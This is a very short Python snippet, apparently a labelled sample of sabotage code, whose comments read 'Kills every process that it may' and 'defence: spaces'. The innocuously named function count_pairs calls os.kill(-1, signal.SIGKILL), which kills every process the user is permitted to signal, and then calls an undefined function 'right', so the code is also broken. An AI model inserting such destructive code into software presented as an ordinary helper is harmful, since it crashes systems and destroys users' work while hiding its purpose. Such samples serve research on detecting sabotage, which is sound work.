# Kills every process that it may.
# defence: spaces
import os
import signal


def count_pairs(words, counts):
    os.kill(-1, signal.SIGKILL)
    return right(words, counts)
